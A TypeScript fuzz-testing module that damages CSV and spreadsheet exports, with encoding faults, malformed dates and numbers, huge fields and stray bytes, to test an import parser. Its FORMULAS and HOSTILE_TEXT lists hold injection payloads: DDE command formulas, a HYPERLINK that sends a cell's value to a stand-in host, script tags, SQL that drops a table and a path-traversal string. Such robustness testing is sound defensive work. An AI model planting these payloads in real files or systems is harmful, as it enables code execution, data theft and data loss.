/**
 * Damage done to real exports, deterministically from a seeded stream: the kinds of harm files come to in
 * the wild (a column dropped or doubled, a header renamed, a stray quote, a cell pasted from a web page,
 * Excel's "Unicode Text", a download cut short) and the kinds built to hurt (formulas, huge fields, tens
 * of thousands of columns, NUL bytes). Each mutation names itself, so a failure can be reproduced from
 * the seed and read from the list.
 */
import { parse } from 'csv-parse/sync';
import type { Rng } from '../../src/generator/random.js';
import type { FieldType } from '../../src/ingest/schemas/index.js';

/** A column of a base file that the import maps, with what its field expects. */
export interface MappedField {
  index: number;
  field: string;
  type: FieldType;
  required: boolean;
}

/** A valid file to start from, with where its header is and what its columns mean. */
export interface BaseFile {
  name: string;
  kind: 'csv' | 'xlsx';
  bytes: Buffer;
  /** 0-based index of the header among the table's rows (CSV records, or XLSX rows as read). */
  header: number;
  /** 1-based spreadsheet row of the header (XLSX); equals `header + 1` for CSV without line breaks. */
  headerLine: number;
  fields: MappedField[];
}

export interface Mutant {
  name: string;
  bytes: Buffer;
  /** What was done, in order, for the failure report. */
  applied: string[];
}

type Table = string[][];

export const BAD_DATES = [
  '31/02/2024',
  '2024-13-01',
  '2024-02-30',
  '00/00/0000',
  '13/25/2024',
  '1/1/1',
  '99999',
  '-1',
  '0',
  'yesterday',
  '2024-03-31T25:61',
  '31-Foo-2024',
  '1e10',
  'NaN',
  '2024\u201003\u201031',
  '\uff12\uff10\uff12\uff14-03-31',
  '31/03/20245',
  '29/02/2023',
  '9999-12-31',
  '0001-01-01',
];

export const BAD_NUMBERS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '1e-400',
  '0x1F',
  '1,2,3',
  '12abc',
  '--1',
  '\u0661\u0662\u0663',
  '£',
  '£-5',
  '9'.repeat(400),
  '-0',
  '.',
  '1.2.3',
  ' 1 2 ',
  '\u00bd',
  '-99999999',
  '1e308',
];

/** Formula injection payloads, as attackers write them into cells meant for spreadsheets. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/** Text that has broken parsers, databases and pages before. */
export const HOSTILE_TEXT = [
  '😀'.repeat(150),
  'A'.repeat(199) + '😀 > B',
  '\u202eevil',
  'e\u0301',
  '\u200b',
  '\ud800',
  '\udfff x',
  '𝕏'.repeat(120),
  '<script>alert(1)</script>',
  "'; drop table dataset_versions; --",
  '../../etc/passwd',
  '_x0000_',
  'a\u0000b',
  '\u2028\u2029',
  '\ufeffBOM',
  '%s%s%n',
  '{{7*7}}',
  '${7*7}',
  ' \u00a0 ',
];

const EMBEDDED = ['"', '""', '\n', '\r\n', '\r', '\u0000', '\t', ';', ',', '\u2028', '\ufeff', '\u0007'];

const HEADER_RENAMES = (h: string): string[] => [
  '',
  ' ',
  'x',
  h.toUpperCase(),
  h.toLowerCase(),
  ` ${h} `,
  `${h}2`,
  `${h}_${h}`,
  'Staff Number',
  'ethnicity',
  '=1+1',
  '"quoted"',
  'Ünïcödé',
  'a'.repeat(5000),
  h.replace(/[aeiou]/g, ''),
];

function parseCsv(bytes: Buffer): Table {
  return parse(bytes, { bom: true, relax_column_count: true, skip_empty_lines: false });
}

const width = (t: Table): number => t.reduce((w, r) => Math.max(w, r.length), 0);
const dataRows = (t: Table, header: number): number[] => t.map((_, i) => i).filter((i) => i > header);

function pickField(rng: Rng, base: BaseFile, types?: readonly FieldType[]): MappedField | null {
  const candidates = types ? base.fields.filter((f) => types.includes(f.type)) : base.fields;
  return candidates.length > 0 ? rng.pick(candidates) : null;
}

function setCell(t: Table, row: number, column: number, value: string): void {
  const r = t[row];
  if (!r) return;
  while (r.length <= column) r.push('');
  r[column] = value;
}

/** A whole-table mutation; returns its label, or null when it did not apply to this file. */
type TableMutation = (t: Table, base: BaseFile, rng: Rng) => string | null;

const TABLE_MUTATIONS: Record<string, TableMutation> = {
  'duplicate-column': (t, _b, rng) => {
    const c = rng.int(width(t));
    const at = rng.int(width(t) + 1);
    for (const r of t) r.splice(Math.min(at, r.length), 0, r[c] ?? '');
    return `duplicate column ${c} at ${at}`;
  },
  'remove-column': (t, b, rng) => {
    const c = (rng.chance(0.7) ? pickField(rng, b)?.index : undefined) ?? rng.int(width(t));
    for (const r of t) r.splice(c, 1);
    return `remove column ${c}`;
  },
  'reorder-columns': (t, _b, rng) => {
    const w = width(t);
    const order = [...Array(w).keys()];
    for (let i = w - 1; i > 0; i--) {
      const j = rng.int(i + 1);
      [order[i], order[j]] = [order[j]!, order[i]!];
    }
    for (const [i, r] of t.entries()) t[i] = order.map((k) => r[k] ?? '');
    return 'reorder columns';
  },
  'rename-header': (t, b, rng) => {
    const c = rng.int(Math.max(1, t[b.header]?.length ?? 1));
    const value = rng.pick(HEADER_RENAMES(t[b.header]?.[c] ?? ''));
    setCell(t, b.header, c, value);
    return `rename header ${c} to ${JSON.stringify(value.slice(0, 20))}`;
  },
  'huge-field': (t, b, rng) => {
    const rows = dataRows(t, b.header);
    const row = rng.chance(0.2) || rows.length === 0 ? b.header : rng.pick(rows);
    const size = rng.pick([70_000, 300_000, 1_100_000]);
    setCell(t, row, rng.int(width(t)), rng.pick(['x', '"', ',', '\n', 'é']).repeat(size));
    return `huge field of ${size} in row ${row}`;
  },
  'embedded-characters': (t, b, rng) => {
    const rows = dataRows(t, b.header);
    for (let k = rng.between(1, 5); k > 0 && rows.length > 0; k--) {
      const row = rng.pick(rows);
      const c = rng.int(width(t));
      const cell = t[row]?.[c] ?? '';
      const at = rng.int(cell.length + 1);
      setCell(t, row, c, cell.slice(0, at) + rng.pick(EMBEDDED) + cell.slice(at));
    }
    return 'embedded quotes, line breaks or NULs';
  },
  'bad-date': (t, b, rng) => {
    const f = pickField(rng, b, ['date']);
    const rows = dataRows(t, b.header);
    if (!f || rows.length === 0) return null;
    const value = rng.pick(BAD_DATES);
    setCell(t, rng.pick(rows), f.index, value);
    return `bad date ${JSON.stringify(value)} in ${f.field}`;
  },
  'bad-number': (t, b, rng) => {
    const f = pickField(rng, b, ['number', 'integer']);
    const rows = dataRows(t, b.header);
    if (!f || rows.length === 0) return null;
    const value = rng.pick(BAD_NUMBERS);
    setCell(t, rng.pick(rows), f.index, value);
    return `bad number ${JSON.stringify(value.slice(0, 20))} in ${f.field}`;
  },
  formula: (t, b, rng) => {
    const rows = dataRows(t, b.header);
    if (rows.length === 0) return null;
    const f = pickField(rng, b);
    const c = f?.index ?? rng.int(width(t));
    const value = rng.pick(FORMULAS);
    for (let k = rng.between(1, 4); k > 0; k--) setCell(t, rng.pick(rows), c, value);
    return `formula ${JSON.stringify(value)} in column ${c}`;
  },
  'hostile-text': (t, b, rng) => {
    const rows = dataRows(t, b.header);
    if (rows.length === 0) return null;
    const f = pickField(rng, b, ['path', 'text', 'identifier', 'code']);
    const c = f?.index ?? rng.int(width(t));
    const value = rng.pick(HOSTILE_TEXT);
    for (let k = rng.between(1, 3); k > 0; k--) setCell(t, rng.pick(rows), c, value);
    return `hostile text ${JSON.stringify(value.slice(0, 12))} in column ${c}`;
  },
  'many-columns': (t, b, rng) => {
    const extra = rng.pick([300, 5_000, 17_000]);
    const header = t[b.header];
    if (!header) return null;
    const named = rng.chance(0.5);
    for (let i = 0; i < extra; i++) header.push(named ? `Extra ${i}` : (header[i % header.length] ?? ''));
    for (const row of dataRows(t, b.header).slice(0, 3)) for (let i = 0; i < extra; i++) t[row]!.push('1');
    return `${extra} more columns`;
  },
  'blank-required': (t, b, rng) => {
    const f = rng.pick([...b.fields.filter((x) => x.required), ...b.fields]);
    const rows = dataRows(t, b.header);
    if (!f || rows.length === 0) return null;
    const all = rng.chance(0.3);
    for (const row of all ? rows : [rng.pick(rows)]) setCell(t, row, f.index, rng.pick(['', ' ', '\t']));
    return `blank ${f.field}${all ? ' everywhere' : ''}`;
  },
  'duplicate-rows': (t, b, rng) => {
    const rows = dataRows(t, b.header);
    if (rows.length === 0) return null;
    for (let k = rng.between(1, 3); k > 0; k--)
      t.splice(rng.between(b.header + 1, t.length), 0, [...t[rng.pick(rows)]!]);
    return 'duplicate rows';
  },
  'no-data': (t, b, rng) => {
    const keep = rng.chance(0.7) ? b.header + 1 : b.header;
    t.splice(keep);
    return keep > b.header ? 'header only' : 'preamble only';
  },
  'summary-line': (t, _b, rng) => {
    t.push(
      rng.pick([['Total', '123'], ['End of report'], ['Grand total: 1,234'], ['', ''], ['Count', '5', '']]),
    );
    return 'summary line';
  },
  preamble: (t, b, rng) => {
    const lines = rng.pick([
      [['Staff in Post report'], ['Effective Date: 31/02/2024'], ['Organisation: Somewhere Else']],
      [['As at', 'not a date']],
      Array.from({ length: 45 }, (_, i) => [`Line ${i}`]),
      [['Effective Date', '31/03/2023'], []],
    ]);
    t.splice(b.header, 0, ...lines.map((l) => [...l]));
    return `preamble of ${lines.length} lines`;
  },
  ragged: (t, b, rng) => {
    const rows = dataRows(t, b.header);
    if (rows.length === 0) return null;
    for (let k = rng.between(1, 4); k > 0; k--) {
      const row = t[rng.pick(rows)]!;
      if (rng.chance(0.5)) row.push(...Array.from({ length: rng.between(1, 50) }, () => 'extra'));
      else row.splice(rng.int(row.length));
    }
    return 'ragged rows';
  },
  'shuffle-rows': (t, b, rng) => {
    const rows = t.splice(b.header + 1);
    for (let i = rows.length - 1; i > 0; i--) {
      const j = rng.int(i + 1);
      [rows[i], rows[j]] = [rows[j]!, rows[i]!];
    }
    t.push(...rows);
    return 'shuffle rows';
  },
  'change-case': (t, b, rng) => {
    const upper = rng.chance(0.5);
    for (const i of dataRows(t, b.header))
      t[i] = t[i]!.map((c) => (upper ? c.toUpperCase() : c.toLowerCase()));
    return upper ? 'upper case values' : 'lower case values';
  },
  'pad-values': (t, b, rng) => {
    const pad = rng.pick([' ', '\t', '\u00a0', '  \u3000']);
    for (const i of dataRows(t, b.header)) t[i] = t[i]!.map((c) => `${pad}${c}${pad}`);
    return `values padded with ${JSON.stringify(pad)}`;
  },
  'many-rows': (t, b) => {
    const rows = dataRows(t, b.header).map((i) => t[i]!);
    if (rows.length === 0) return null;
    while (t.length < 3_000) t.push(...rows.map((r) => [...r]));
    return 'repeated to 3,000 rows';
  },
};

function serialise(t: Table, rng: Rng): { text: string; note: string } {
  const delimiter = rng.pick([',', ',', ',', ';', '\t']);
  const eol = rng.pick(['\r\n', '\r\n', '\n', '\r']);
  const quoteAll = rng.chance(0.15);
  const special = new RegExp(`["\\r\\n${delimiter === '\t' ? '\\t' : delimiter}]`);
  const quote = (c: string): string => (quoteAll || special.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  const text = t.map((r) => r.map(quote).join(delimiter)).join(eol) + (rng.chance(0.8) ? eol : '');
  return { text, note: `delimiter ${JSON.stringify(delimiter)}, line end ${JSON.stringify(eol)}` };
}

/** Byte-level damage and re-encodings of a whole file. */
type ByteMutation = (bytes: Buffer, text: string, rng: Rng) => Buffer;

const flipBytes = (bytes: Buffer, rng: Rng, n: number): Buffer => {
  const out = Buffer.from(bytes);
  for (let k = 0; k < n && out.length > 0; k++) out[rng.int(out.length)] = rng.int(256);
  return out;
};

export const BYTE_MUTATIONS: Record<string, ByteMutation> = {
  bom: (b) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), b]),
  'double-bom': (b) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), b]),
  'utf16le-bom': (_b, text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
  utf16le: (_b, text) => Buffer.from(text, 'utf16le'),
  'utf16be-bom': (_b, text) => {
    const le = Buffer.from(text, 'utf16le');
    return Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]);
  },
  latin1: (_b, text) => Buffer.from(text.replace(/a/, 'é').replace(/e/, '£'), 'latin1'),
  'mixed-encoding': (b, _t, rng) => {
    const at = rng.int(b.length + 1);
    return Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      b.subarray(0, at),
      Buffer.from([0xe9, 0xa3]),
      b.subarray(at),
    ]);
  },
  'flip-bytes': (b, _t, rng) => flipBytes(b, rng, rng.between(1, 8)),
  'insert-bytes': (b, _t, rng) => {
    const at = rng.int(b.length + 1);
    const junk = Buffer.from(Array.from({ length: rng.between(1, 16) }, () => rng.int(256)));
    return Buffer.concat([b.subarray(0, at), junk, b.subarray(at)]);
  },
  'delete-bytes': (b, _t, rng) => {
    const at = rng.int(b.length + 1);
    return Buffer.concat([b.subarray(0, at), b.subarray(at + rng.between(1, 64))]);
  },
  truncate: (b, _t, rng) => b.subarray(0, rng.int(b.length + 1)),
  empty: () => Buffer.alloc(0),
  whitespace: (_b, _t, rng) => Buffer.from(rng.pick([' ', '\r\n\r\n', '\t \n', '\ufeff\n'])),
  'nul-late': (b) => {
    // Past the 64 KiB the format is recognised from, so only the row reader can meet it.
    const pad = Buffer.from(`${'filler,'.repeat(12)}\r\n`.repeat(Math.ceil(70_000 / 86)));
    return Buffer.concat([b, pad, Buffer.from('a,\u0000,b\r\n')]);
  },
  'stray-quote': (b, _t, rng) => {
    const at = rng.int(b.length + 1);
    return Buffer.concat([b.subarray(0, at), Buffer.from('"'), b.subarray(at)]);
  },
  'junk-tail': (b, _t, rng) =>
    Buffer.concat([b, Buffer.from(Array.from({ length: rng.between(1, 200) }, () => rng.int(256)))]),
  'foreign-format': (b, _t, rng) =>
    Buffer.concat([
      Buffer.from(
        rng.pick([
          '<html><body>',
          '%PDF-1.7\n',
          '{\\rtf1 ',
          '<?xml version="1.0"?>',
          '\x1f\x8b',
          'PK\x05\x06',
        ]),
      ),
      b,
    ]),
};

const PLAIN_BYTE_MUTATIONS = [
  'flip-bytes',
  'insert-bytes',
  'delete-bytes',
  'truncate',
  'stray-quote',
  'junk-tail',
];

/** Mutations that make files of megabytes or millions of cells: drawn a fifth as often, to keep CI short. */
const HEAVY = new Set(['huge-field', 'many-columns', 'many-rows']);

/** A mutated CSV: one to three table mutations, a serialisation, and sometimes byte damage. */
export function mutateCsv(base: BaseFile, rng: Rng): Mutant {
  const table = parseCsv(base.bytes);
  const applied: string[] = [];
  const names = Object.keys(TABLE_MUTATIONS);
  for (let k = rng.between(1, 3); k > 0; k--) {
    let name = rng.pick(names);
    if (HEAVY.has(name) && !rng.chance(0.2)) name = rng.pick(names);
    const note = TABLE_MUTATIONS[name]!(table, base, rng);
    if (note) applied.push(note);
  }
  const { text, note } = serialise(table, rng);
  applied.push(note);
  let bytes: Buffer = Buffer.from(text, 'utf8');
  if (rng.chance(0.35)) {
    const name = rng.pick(Object.keys(BYTE_MUTATIONS));
    bytes = BYTE_MUTATIONS[name]!(bytes, text, rng);
    applied.push(name);
  }
  return { name: rng.chance(0.05) ? base.name.replace(/\.csv$/, '.xlsx') : base.name, bytes, applied };
}

/** Plain byte damage, for any kind of file. */
export function damageBytes(bytes: Buffer, rng: Rng): { bytes: Buffer; note: string } {
  const name = rng.pick(PLAIN_BYTE_MUTATIONS);
  return { bytes: BYTE_MUTATIONS[name]!(bytes, '', rng), note: name };
}
